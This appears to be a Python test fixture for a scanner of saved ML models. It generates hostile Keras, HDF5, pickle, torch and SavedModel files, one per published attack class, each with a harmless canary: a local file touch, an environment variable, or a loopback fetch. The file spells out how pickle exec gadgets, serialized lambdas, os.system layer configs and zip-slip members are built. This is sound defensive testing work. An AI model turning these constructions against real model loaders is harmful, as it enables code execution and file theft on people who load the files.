"""A corpus of hostile saved models, one for each published class of attack, each with a harmless canary.

What would run makes an empty file in the corpus's own folder and sets an environment variable; what would fetch
connects to a listener of the test on loopback; what would read opens a file that the test watches.
"""

from __future__ import annotations

import base64
import contextlib
import ctypes
import functools
import http.client
import io
import json
import marshal
import os
import pickle
import socket
import tarfile
import threading
import urllib.request
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from types import CodeType
from typing import TYPE_CHECKING, Any

import h5py
import numpy as np

if TYPE_CHECKING:
    from collections.abc import Callable

VARIABLE = "KERASCOPE_CANARY"
SECRET = "the secret word\n"
IN_ACCESS, IN_OPEN = 0x1, 0x20


class Canary:
    """What tells that something was executed, fetched or opened.

    Attributes:
        nest: The folder in which code of the corpus makes files.
        secret: A file that nothing may open.
        url: An address on loopback at which nobody may knock.
    """

    def __init__(self, folder: Path) -> None:
        self.nest = folder / "nest"
        self.nest.mkdir()
        self.secret = folder / "secret.txt"
        self.secret.write_text(SECRET * 8)
        self._libc = ctypes.CDLL(None, use_errno=True)
        self._watch = self._libc.inotify_init1(os.O_NONBLOCK | os.O_CLOEXEC)
        added = self._libc.inotify_add_watch(self._watch, os.fsencode(self.secret), IN_ACCESS | IN_OPEN)
        if self._watch < 0 or added < 0:
            raise OSError(ctypes.get_errno(), "inotify is needed to watch the file that nothing may open")
        self._server = socket.create_server(("127.0.0.1", 0))
        self.url = f"http://127.0.0.1:{self._server.getsockname()[1]}"
        self._knocks: list[str] = []
        threading.Thread(target=self._listen, daemon=True).start()

    def _listen(self) -> None:
        while True:
            try:
                connection, _ = self._server.accept()
            except OSError:
                return
            connection.settimeout(1)
            with connection:
                try:
                    self._knocks.append(connection.recv(200).split(b"\r")[0].decode("latin-1"))
                except OSError:
                    self._knocks.append("a connection without a word")

    def fired(self) -> list[str]:
        """What happened that must not, since the last time."""
        happened = [f"made {path.name}" for path in self.nest.iterdir()]
        for path in self.nest.iterdir():
            path.unlink()
        happened += [f"fetched {knock}" for knock in self._knocks]
        self._knocks.clear()
        with contextlib.suppress(BlockingIOError):
            happened += ["opened the secret file"] if os.read(self._watch, 4096) else []
        if os.environ.pop(VARIABLE, None):
            happened.append("set the variable")
        return happened

    def close(self) -> None:
        self._server.close()
        os.close(self._watch)


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus.

    Attributes:
        name: The class of attack.
        path: The file or folder.
        rules: Codes that must be found; empty where the file cannot be read, or holds nothing that matters.
        exits: Exit codes of `check` that are right.
        fire: Does directly what the file wants a loader to do, where that can be shown without one.
        layer: Name of the layer that one of the findings is about, where it is about one.
    """

    name: str
    path: Path
    rules: frozenset[str]
    exits: frozenset[int] = frozenset({1})
    fire: Callable[[], object] | None = field(default=None, compare=False)
    layer: str | None = None


class Pickled:
    """Unpickled, it fires the canary."""

    def __init__(self, source: str) -> None:
        self._source = source

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self._source,)


def firing(canary: Canary, name: str) -> str:
    """Python that fires the canary when it is executed, as one expression."""
    path = str(canary.nest / name)
    return f"(open({path!r}, 'w').close(), __import__('os').environ.__setitem__({VARIABLE!r}, {name!r}))"


def bytecode(canary: Canary, name: str) -> str:
    """The same as Keras dumps a function: marshalled, in base64."""
    made = compile(f"lambda x: {firing(canary, name)}", "<hostile>", "eval").co_consts[0]
    assert isinstance(made, CodeType)
    return base64.encodebytes(marshal.dumps(made)).decode("ascii")


def run_bytecode(text: str) -> object:
    """What Keras does with it."""
    from types import FunctionType

    return FunctionType(marshal.loads(base64.b64decode(text)), {"__builtins__": __builtins__})(0)


def torch_zip(canary: Canary, name: str) -> bytes:
    """What torch.save writes around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("archive/data.pkl", pickle.dumps(Pickled(firing(canary, name)), protocol=2))
        file.writestr("archive/version", "3\n")
    return buffer.getvalue()


def corpus(folder: Path, canary: Canary, forge: Any) -> list[Hostile]:
    """Write every file; `forge` is the module that writes saved models."""
    folder.mkdir()
    made: list[Hostile] = []

    def add(name: str, path: Path, *rules: str, **more: Any) -> None:
        made.append(Hostile(name, path, frozenset(rules), **more))

    def keras(name: str, *layers: Any, members: dict[str, bytes | str] | None = None, **more: Any) -> Path:
        path: Path = forge.archive(
            folder / f"{name}.keras", forge.sequential([forge.dense(), *layers]), members, **more
        )
        return path

    _lambdas(add, keras, folder, canary, forge)
    _names(add, keras, folder, canary, forge)
    _references(add, keras, folder, canary, forge)
    _hdf5(add, folder, canary, forge)
    _archives(add, keras, folder, canary, forge)
    _graphs(add, folder, canary, forge)
    return made


def _lambdas(add: Any, keras: Any, folder: Path, canary: Canary, forge: Any) -> None:
    for name, version in (("CVE-2024-3660", "2.12.0"), ("CVE-2025-9905", "3.11.2")):
        code = bytecode(canary, name)
        old = {"name": "strange", "function": [code, None, None], "function_type": "lambda", "module": "__main__"}
        new = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
        config = old if version.startswith("2") else {"name": "strange", "function": new, "arguments": {}}
        serialized = forge.layer("Lambda", config, 2)
        nested = forge.layer("TimeDistributed", {"name": "around", "layer": serialized}, 2)
        path = forge.model_h5(
            folder / f"{name}.h5", forge.sequential([forge.dense(generation=2), serialized], 2), version
        )
        add(name, path, "KS501", fire=lambda code=code: run_bytecode(code), layer="strange")
        path = folder / f"{name}-nested.h5"
        add(name, forge.model_h5(path, forge.sequential([nested], 2), version), "KS501", layer="strange")
    code = bytecode(canary, "CVE-2026-12481")
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    strange = forge.layer("Lambda", {"name": "strange", "function": function, "arguments": {}})
    path = folder / "CVE-2026-12481.json"
    path.write_text(json.dumps(forge.sequential([forge.dense(), strange])))
    add("CVE-2026-12481", path, "KS501", fire=lambda: run_bytecode(code), layer="strange")
    # An initializer, an output shape and a metric are functions as well.
    value = {"class_name": "__lambda__", "config": {"value": [bytecode(canary, "initializer"), None, None]}}
    config = forge.sequential([forge.dense(kernel_initializer=value)], compile_config={"metrics": [value]})
    add("lambda elsewhere", forge.archive(folder / "lambda-elsewhere.keras", config), "KS501", layer="plain")


def _names(add: Any, keras: Any, folder: Path, canary: Canary, forge: Any) -> None:
    command = f"touch {canary.nest / 'CVE-2025-1550'}"
    called = [{"args": [command], "kwargs": {}}]
    for number, (module, name) in enumerate((("os", "system"), ("subprocess", "check_output"), ("builtins", "exec"))):
        config = {"name": "strange", "function": forge.function(module, name), "arguments": {}}
        strange = {**forge.layer("Lambda", config), "name": "strange", "inbound_nodes": called}
        path = keras(f"CVE-2025-1550-{number}", strange)
        add("CVE-2025-1550", path, "KS501", layer="strange", fire=lambda: os.system(command))
    foreign = {"module": "os", "class_name": "system", "config": {"command": command}, "registered_name": None}
    path = forge.archive(
        folder / "CVE-2025-1550-initializer.keras", forge.sequential([forge.dense(kernel_initializer=foreign)])
    )
    add("CVE-2025-1550", path, "KS501", layer="plain")
    fetched = {"fname": "words.keras", "origin": f"{canary.url}/CVE-2025-8747", "cache_dir": str(canary.nest)}
    for number, function in enumerate(
        (forge.function("keras.utils", "get_file"), forge.function("keras.src.utils.file_utils", "get_file"))
    ):
        strange = forge.layer("Lambda", {"name": "strange", "function": function, "arguments": fetched})
        path = keras(f"CVE-2025-8747-{number}", strange)
        add("CVE-2025-8747", path, "KS501", "KS502", layer="strange", fire=lambda: _open(fetched["origin"]))
    switch = forge.function("keras.config", "enable_unsafe_deserialization")
    code = bytecode(canary, "CVE-2025-9906")
    function = {"class_name": "__lambda__", "config": {"code": code, "defaults": None, "closure": None}}
    path = keras(
        "CVE-2025-9906",
        forge.layer("Lambda", {"name": "opened", "function": switch, "arguments": {}}),
        forge.layer("Lambda", {"name": "strange", "function": function, "arguments": {}}),
    )
    add("CVE-2025-9906", path, "KS501", layer="opened", fire=lambda: run_bytecode(code))
    blob = torch_zip(canary, "CVE-2025-49655")
    wrapper = forge.layer("TorchModuleWrapper", {"name": "strange", "module": base64.b64encode(blob).decode()})
    unpickled = zipfile.ZipFile(io.BytesIO(blob)).read("archive/data.pkl")
    path = keras("CVE-2025-49655", wrapper)
    add("CVE-2025-49655", path, "KS501", layer="strange", fire=lambda: pickle.loads(unpickled))
    operation = {"name": "strange", "trainable": False, "dtype": "float32", "function": "io.write_file"}
    written = [["given", 0, 0, {"contents": "x", "filename": str(canary.nest / "written")}]]
    config = forge.layer("TFOpLambda", operation, 2, name="strange", inbound_nodes=written)
    path = forge.model_h5(folder / "operation.h5", forge.sequential([config], 2))
    add("operation by name", path, "KS501", layer="strange")


def _run(path: Path) -> None:
    """What Python does with a program."""
    path = path if path.is_file() else path / "saved_model.pb"
    with contextlib.suppress(SystemExit):
        exec(compile(path.read_text(), str(path), "exec"), {})


def _open(path: str) -> bytes:
    """What a file system of TensorFlow does with a path or an address."""
    if "://" not in path:
        return Path(path).read_bytes()
    try:
        return bytes(urllib.request.urlopen(path, timeout=2).read())
    except (OSError, http.client.HTTPException):
        return b""


def _references(add: Any, keras: Any, folder: Path, canary: Canary, forge: Any) -> None:
    secret = str(canary.secret)
    for number, (class_name, vocabulary) in enumerate(
        (("StringLookup", secret), ("TextVectorization", f"{canary.url}/CVE-2025-12058"), ("IntegerLookup", secret))
    ):
        strange = forge.layer(class_name, {"name": "strange", "vocabulary": vocabulary})
        path = keras(f"CVE-2025-12058-{number}", strange)
        add("CVE-2025-12058", path, "KS502", layer="strange", fire=functools.partial(_open, vocabulary))
    graph = forge.saved_model(folder / "elsewhere", [forge.constant("c", secret), forge.node("r", "ReadFile", ("c",))])
    strange = forge.layer("TFSMLayer", {"name": "strange", "filepath": str(graph), "call_endpoint": "serve"})
    add("CVE-2026-1462", keras("CVE-2026-1462", strange), "KS501", "KS502", layer="strange")
    for number, name in enumerate(("..", "../../nest/CVE-2026-12479")):
        path = keras(f"CVE-2026-12479-{number}", forge.dense(name))
        add("CVE-2026-12479", path, "KS502", layer=name)
    loss = forge.function("os", "system")
    path = forge.model_h5(
        folder / "training.h5", forge.sequential([forge.dense(generation=2)], 2), training={"loss": loss}
    )
    add("training config", path, "KS501")
    hub = {"name": "strange", "handle": f"{canary.url}/hub/1", "trainable": False}
    path = forge.model_h5(folder / "hub.h5", forge.sequential([forge.layer("KerasLayer", hub, 2)], 2))
    add("hub address", path, "KS501", "KS502", layer="strange")


def _hdf5(add: Any, folder: Path, canary: Canary, forge: Any) -> None:
    good = forge.sequential([forge.dense(generation=2)], 2)

    def changed(name: str, change: Callable[[Any], object]) -> Path:
        path: Path = forge.model_h5(folder / name, good)
        with h5py.File(path, "a") as file:
            group = file["model_weights/plain/plain"]
            del group["kernel:0"]
            change(group)
        return path

    secret = str(canary.secret)
    size = canary.secret.stat().st_size // 4
    add(
        "CVE-2026-0897",
        changed(
            "CVE-2026-0897.h5", lambda at: at.create_dataset("kernel:0", (1 << 40, 1 << 12), "f4", chunks=(64, 64))
        ),
        exits=frozenset({0, 1}),
    )
    add(
        "CVE-2026-1669",
        changed(
            "CVE-2026-1669.h5",
            lambda at: at.create_dataset("kernel:0", (size,), "f4", external=[(secret, 0, size * 4)]),
        ),
        "KS502",
        fire=lambda: canary.secret.read_bytes(),
    )
    other = folder / "other.h5"
    with h5py.File(other, "w") as file:
        file["kernel"] = np.ones((4, 3), "f4")
    links = {
        "external": lambda at: at.__setitem__("kernel:0", h5py.ExternalLink(secret, "/")),
        "external-file": lambda at: at.__setitem__("kernel:0", h5py.ExternalLink(str(other), "/kernel")),
        "soft": lambda at: at.__setitem__("kernel:0", h5py.SoftLink("/model_weights/plain/plain/bias:0")),
        "virtual": lambda at: _virtual(at, secret),
    }
    for name, change in links.items():
        add("CVE-2026-1669", changed(f"CVE-2026-1669-{name}.h5", change), "KS502")


def _virtual(group: Any, path: str) -> None:
    layout = h5py.VirtualLayout(shape=(4, 3), dtype="f4")
    layout[:] = h5py.VirtualSource(path, "kernel", shape=(4, 3))
    group.create_virtual_dataset("kernel:0", layout)


def _archives(add: Any, keras: Any, folder: Path, canary: Canary, forge: Any) -> None:
    outside = f"../../{canary.nest.name}/slipped"
    for number, name in enumerate(
        (outside, str(canary.nest / "slipped"), f"assets/{outside}", "..\\..\\nest\\slipped")
    ):
        add("zip slip", keras(f"zip-slip-{number}", members={name: b"x"}), "KS502")
    link = zipfile.ZipInfo("assets/link")
    link.external_attr = 0o120777 << 16
    path = keras("zip-symlink")
    with zipfile.ZipFile(path, "a") as file:
        file.writestr(link, str(canary.secret))
    add("zip symlink", path, exits=frozenset({0, 1}))
    tar = folder / "tar-slip.keras"
    with tarfile.open(tar, "w") as file:
        member = tarfile.TarInfo(outside)
        file.addfile(member, io.BytesIO())
    add("tar slip", tar, exits=frozenset({2}))
    pickled = folder / "pickle.keras"
    pickled.write_bytes(pickle.dumps(Pickled(firing(canary, "pickle.keras"))))
    add("a pickle", pickled, exits=frozenset({2}), fire=lambda: pickle.loads(pickled.read_bytes()))
    torch = folder / "torch.keras"
    torch.write_bytes(torch_zip(canary, "torch.keras"))
    add("a torch file", torch, exits=frozenset({1, 2}))
    for name in ("program.keras", "program.h5", "program.json", "program/saved_model.pb"):
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_text(f"{firing(canary, 'program')}\nraise SystemExit(0)\n")
        path = path if path.suffix != ".pb" else path.parent
        add("a program named as a model", path, exits=frozenset({2}), fire=functools.partial(_run, path))
    package = keras("python-inside", members={"__init__.py": firing(canary, "imported"), "conftest.py": "1/0"})
    add("python inside", package, exits=frozenset({0, 1}))


def _graphs(add: Any, folder: Path, canary: Canary, forge: Any) -> None:
    secret, written = str(canary.secret), str(canary.nest / "written")
    reads = [forge.constant("c", secret), forge.node("r", "ReadFile", ("c",))]
    writes = [forge.constant("c", written), forge.node("w", "WriteFile", ("c:output:0", "c:output:0"))]
    calls = [forge.node("p", "PyFunc", (), token="pyfunc_0")]
    add("graph reads a file", forge.saved_model(folder / "graph-reads", reads), "KS502")
    add("graph writes a file", forge.saved_model(folder / "graph-writes", [], writes), "KS502")
    # It works only in the program that made it, so that it is no more than a remark.
    add("graph calls python", forge.saved_model(folder / "graph-calls", [], calls), "KS501", exits=frozenset({0}))
    code = bytecode(canary, "metadata")
    config = {"name": "strange", "function": [code, None, None], "function_type": "lambda", "module": "__main__"}
    model = forge.sequential([forge.dense(generation=2), forge.layer("Lambda", config, 2)], 2)
    path = forge.saved_model(folder / "graph-lambda", [], keras_metadata=forge.keras_metadata(model))
    add("lambda in metadata", path, "KS501", layer="strange")
    path = forge.saved_model(folder / "linked", [forge.node("n", "NoOp")])
    (path / "variables").mkdir()
    # Caches of downloaded models are folders of links, so that links of a folder are followed; nothing is shown of what
    # is no part of a model.
    other = folder / "other.txt"
    other.write_text(SECRET * 8)
    (path / "variables" / "variables.index").symlink_to(other)
    (path / "variables" / "variables.data-00000-of-00001").symlink_to(other)
    (path / "keras_metadata.pb").symlink_to(other)
    (path / "assets").symlink_to(folder)
    add("links in a folder", path, exits=frozenset({0, 1, 2}))
    waiting = forge.saved_model(folder / "waiting", [forge.node("n", "NoOp")])
    os.mkfifo(waiting / "keras_metadata.pb")
    (waiting / "variables").mkdir()
    os.mkfifo(waiting / "variables" / "variables.index")
    add("FIFOs in a folder", waiting, exits=frozenset({0, 1, 2}))
